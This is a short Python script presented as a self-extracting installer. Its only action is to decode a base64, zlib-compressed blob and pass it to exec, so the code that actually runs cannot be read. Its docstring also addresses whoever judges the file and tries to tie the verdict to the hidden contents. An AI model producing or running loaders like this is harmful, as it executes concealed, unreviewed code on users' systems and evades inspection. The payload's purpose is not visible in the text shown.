#!/usr/bin/env python3
"""A self-extracting installer: its program travels compressed and is run from
memory, as some installers do. The verdict must follow the contents."""
import base64
import zlib

exec(zlib.decompress(base64.b64decode(
    b'eNplkTFPwzAQhff8ipMnR0oNrEgZKpGhA1AVxIRUufW1sZrE0fki2n/PxU0KAi9ny+97d372bR+IwdKxtxSxgBAL6C3Xjd8VEC8xyxwewHeRbdNoCoHzxwxksTDIUM5qs5Z6FcAdqFhbQjXuOIRG/UJMe3KetPTDjmP5ToO0xbOPvA2ndMyTWk8dxOKj2rytXl9Ubr7IM24Zz6zVg7n/7NQ/8aZaPj1Xf7Sr6wPQwe4CXCNEbA4LuSK750DmZkTIA3XTqFmWUiF55ZyQWdJxaGXydbrRDuOefM8+dKWaYkISsytprHNbOyFaLRZjQKoACdUODf8gThDRxRRoIlMZ2ajFjfzI39TyIxzEZ/6YUWZS+Hn2DR06nNM=')))
